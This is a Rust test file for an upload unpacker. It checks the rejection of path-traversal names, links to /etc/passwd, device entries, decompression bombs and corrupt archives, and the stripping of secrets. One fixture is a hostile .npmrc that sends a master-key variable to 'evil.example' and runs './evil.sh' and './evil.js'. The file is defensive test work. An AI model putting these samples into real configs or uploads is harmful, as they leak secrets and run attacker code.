//! What uploads may hold.

use std::os::unix::fs::PermissionsExt;

use flate2::Compression;
use flate2::write::GzEncoder;
use tar::{Builder, EntryType, Header};

use super::*;

/// An archive with these files.
fn archive(files: &[(&str, &[u8])]) -> Vec<u8> {
    packed(|builder| {
        for (name, content) in files {
            let mut header = header(EntryType::Regular, content.len());
            raw_name(&mut header, name);
            header.set_cksum();
            builder.append(&header, *content).unwrap();
        }
    })
}

fn packed(fill: impl FnOnce(&mut Builder<GzEncoder<Vec<u8>>>)) -> Vec<u8> {
    let mut builder = Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
    fill(&mut builder);
    builder.into_inner().unwrap().finish().unwrap()
}

fn header(kind: EntryType, size: usize) -> Header {
    let mut header = Header::new_gnu();
    header.set_entry_type(kind);
    header.set_size(size as u64);
    header.set_mode(0o4777);
    header
}

/// As a hostile program would write it: the library refuses such names.
fn raw_name(header: &mut Header, name: &str) {
    header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
}

fn linked(kind: EntryType, name: &str) -> Vec<u8> {
    packed(|builder| {
        let mut header = header(kind, 0);
        raw_name(&mut header, name);
        header.set_link_name("/etc/passwd").unwrap();
        header.set_cksum();
        builder.append(&header, &[][..]).unwrap();
    })
}

fn refused(archive: &[u8]) -> String {
    let error = inspect(archive).unwrap_err();
    let folder = tempfile::tempdir().unwrap();
    let unpacked = unpack(archive, folder.path()).unwrap_err();
    assert_eq!(unpacked.to_string(), error.to_string());
    assert_eq!(std::fs::read_dir(folder.path()).unwrap().count(), 0);
    error.to_string()
}

#[test]
fn a_folders_files_are_unpacked_for_this_user_only() {
    let archive = archive(&[
        ("./package.json", b"{}"),
        ("./src/app.js", b"app"),
        ("./.env.example", b"KEY="),
    ]);
    let folder = tempfile::tempdir().unwrap();
    let source = unpack(&archive, folder.path()).unwrap();
    let names: Vec<_> = source.files.keys().collect();
    assert_eq!(names, [".env.example", "package.json", "src/app.js"]);
    assert_eq!(source.bytes, 9);
    let app = folder.path().join("src/app.js");
    assert_eq!(std::fs::read(&app).unwrap(), b"app");
    let mode = std::fs::metadata(&app).unwrap().permissions().mode();
    assert_eq!(mode & 0o7777, 0o600);
}

#[test]
fn secrets_packages_and_history_are_left_out() {
    let archive = archive(&[
        ("app.js", b"app"),
        (".env", b"KEY=1"),
        ("config/.env.production", b"KEY=1"),
        (".git/config", b"x"),
        ("node_modules/express/index.js", b"x"),
        ("._app.js", b"x"),
    ]);
    let folder = tempfile::tempdir().unwrap();
    let source = unpack(&archive, folder.path()).unwrap();
    let names: Vec<_> = source.files.keys().collect();
    assert_eq!(names, ["app.js"]);
    assert_eq!(source.left_out[".env"], 2);
    assert_eq!(source.left_out["node_modules"], 1);
    assert!(!folder.path().join(".env").exists());
}

#[test]
fn names_that_lead_out_of_the_folder_are_refused() {
    for name in ["../app.js", "/etc/cron.d/x", "src/../../x", "a/.."] {
        let error = refused(&archive(&[("app.js", b"app"), (name, b"x")]));
        assert!(
            error.contains(name) && error.contains("leads out"),
            "{error}"
        );
    }
    let error = refused(&archive(&[("a\u{7}b", b"x")]));
    assert!(error.contains("no name"), "{error}");
}

#[test]
fn links_and_devices_are_refused() {
    for (kind, says) in [
        (EntryType::Symlink, "a symbolic link"),
        (EntryType::Link, "a hard link"),
        (EntryType::Fifo, "a device or a pipe"),
        (EntryType::Char, "a device or a pipe"),
    ] {
        let error = refused(&linked(kind, "app.js"));
        assert!(
            error.contains("`app.js`") && error.contains(says),
            "{error}"
        );
    }
    // Packages are full of them, and left out anyway.
    let error = refused(&linked(EntryType::Symlink, "node_modules/.bin/x"));
    assert!(error.contains("holds no file"), "{error}");
}

#[test]
fn a_bomb_is_refused_before_it_is_written() {
    let zeros = vec![0; (MAX_UNPACKED_BYTES + 1) as usize];
    let bomb = archive(&[("zeros", &zeros)]);
    assert!(bomb.len() < 2 << 20, "{} bytes", bomb.len());
    assert!(refused(&bomb).contains("unpacks to more than 128 MiB"));
    // Left out or not, it is too much to read.
    let hidden = archive(&[("node_modules/zeros", &zeros)]);
    assert!(refused(&hidden).contains("unpacks to more than 128 MiB"));
}

#[test]
fn too_many_files_are_refused() {
    let names: Vec<String> = (0..=MAX_FILES).map(|n| format!("{n}.js")).collect();
    let files: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), &b""[..])).collect();
    assert!(refused(&archive(&files)).contains("more than 20000 files"));
}

#[test]
fn what_is_no_archive_says_so() {
    let whole = archive(&[("app.js", &[b'x'; 5000])]);
    assert!(refused(&whole[..whole.len() / 2]).contains("cannot be read"));
    let mut changed = whole.clone();
    let middle = changed.len() / 2;
    changed[middle] ^= 0xff;
    inspect(&changed).unwrap_err();
    assert!(matches!(inspect(b""), Err(UploadError::Empty)));
    assert!(matches!(inspect(b"PK\x03\x04"), Err(UploadError::Unknown)));
    assert!(matches!(
        inspect(b"\0asm\x01\0\0\0"),
        Err(UploadError::Module)
    ));
    let clash = archive(&[("a", b"x"), ("a/b", b"x")]);
    assert!(refused(&clash).contains("`a` is a file and a folder"));
}

#[test]
fn the_folder_of_npm_pack_is_taken_off() {
    let archive = archive(&[("package/package.json", b"{}"), ("package/app.js", b"app")]);
    let folder = tempfile::tempdir().unwrap();
    let source = unpack(&archive, folder.path()).unwrap();
    assert!(source.files.contains_key("app.js"));
    assert!(folder.path().join("package.json").is_file());
}

#[test]
fn of_npms_settings_only_registries_stay() {
    let npmrc = b"registry=https://npm.example/\n@own:registry=https://own.example/\n\
        //own.example/:_authToken=abc\n//evil.example/:_authToken=${ROOST_MASTER_KEY}\n\
        git=./evil.sh\nignore-scripts=false\nnode-options=--require ./evil.js\n";
    let archive = archive(&[("package.json", b"{}"), (".npmrc", npmrc)]);
    let folder = tempfile::tempdir().unwrap();
    unpack(&archive, folder.path()).unwrap();
    let kept = std::fs::read_to_string(folder.path().join(".npmrc")).unwrap();
    assert_eq!(
        kept,
        "registry=https://npm.example/\n@own:registry=https://own.example/\n//own.example/:_authToken=abc"
    );
}
